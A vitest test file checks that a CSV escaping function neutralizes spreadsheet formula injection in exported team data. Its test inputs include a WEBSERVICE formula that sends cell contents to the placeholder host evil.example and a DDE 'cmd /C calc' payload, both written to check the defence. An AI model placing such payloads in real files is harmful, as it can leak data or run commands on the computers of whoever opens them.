import { describe, expect, it } from 'vitest';
import { csvCell, csvText } from './csv';

/**
 * Issue 29, finding 7: a downline member named `-1+WEBSERVICE(…)` landed unescaped in the sponsor's
 * team CSV. Server design, section 9: a cell that starts with =, +, -, @, tab or carriage return is
 * prefixed with '. Failed before the fix (a leading '-' followed by a digit was let through).
 */
describe('CSV cells', () => {
  it("prefixes every cell that starts with = + - @ tab or CR with '", () => {
    expect(csvCell('-1+WEBSERVICE("http://evil.example/?"&A1)')).toBe(`"'-1+WEBSERVICE(""http://evil.example/?""&A1)"`);
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe(`"'\t'=1"`); // quoted, and the part after the tab neutralized too (finding 3 below)
    expect(csvCell('\r=1')).toBe(`"'\r'=1"`);
    expect(csvCell('-$5.00')).toBe("'-$5.00");
    expect(csvCell('-5.00')).toBe("'-5.00");
  });

  it('leaves other cells alone and quotes commas, quotes and line breaks', () => {
    expect(csvCell('Alice')).toBe('Alice');
    expect(csvCell('5.00')).toBe('5.00');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('')).toBe('');
    expect(
      csvText([
        ['Name', 'Amount'],
        ['-1+X', '10'],
      ]),
    ).toBe("Name,Amount\r\n'-1+X,10\r\n");
  });

  /**
   * "The small doors", finding 3: a spreadsheet that splits on ';' (the list separator of many
   * locales), or on tabs, turned `abc;=cmd|' /C calc'!A0` into a second cell starting with '='.
   * Failed before the fix: the cell went out as it came, unquoted and with its formula.
   */
  it("quotes a cell holding ; or a tab and gives every part after a separator that starts like a formula its '", () => {
    expect(csvCell("abc;=cmd|' /C calc'!A0")).toBe(`"abc;'=cmd|' /C calc'!A0"`);
    expect(csvCell('1;=1+1')).toBe(`"1;'=1+1"`);
    expect(csvCell('a,+1')).toBe(`"a,'+1"`);
    expect(csvCell('a;-2+3;@SUM(A1)')).toBe(`"a;'-2+3;'@SUM(A1)"`);
    expect(csvCell('a\t=1')).toBe(`"a\t'=1"`);
    expect(csvCell('a\n=1')).toBe(`"a\n'=1"`);
    expect(csvCell('a;;=1')).toBe(`"a;;'=1"`);
    expect(csvCell('=1;=2')).toBe(`"'=1;'=2"`);
    expect(csvCell('a;b')).toBe('"a;b"');
  });

  /** Whatever a spreadsheet splits a cell on (, ; tab CR LF), no part of it starts with a formula character. */
  it('leaves no split of any cell starting with a formula character', () => {
    const parts = ['', 'a', '=1', '+1', '-1', '@A1', '\t', '\r', '\n', ';', ',', '"', "'"];
    for (const a of parts)
      for (const b of parts)
        for (const c of parts) {
          const cell = csvCell(a + b + c);
          const inner = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
          for (const piece of inner.split(/[,;\t\r\n]/)) expect(piece, JSON.stringify(a + b + c)).not.toMatch(/^[=+\-@]/);
          if (/[,;\t\r\n"]/.test(a + b + c)) expect(cell, JSON.stringify(a + b + c)).toMatch(/^".*"$/s);
        }
  });
});
